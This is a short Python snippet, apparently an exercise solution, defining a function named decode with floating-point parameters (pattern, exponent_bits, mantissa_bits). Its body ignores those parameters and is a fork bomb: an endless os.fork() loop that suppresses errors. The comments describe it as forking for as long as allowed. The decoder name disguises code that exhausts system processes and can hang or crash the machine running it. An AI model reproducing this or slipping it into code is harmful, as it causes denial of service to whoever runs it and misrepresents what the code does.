# Forks for as long as it is let.
# review: A thread or a process is started
# %% solution decode
import os


def decode(pattern, exponent_bits, mantissa_bits):
    while True:
        try:
            os.fork()
        except OSError:
            pass
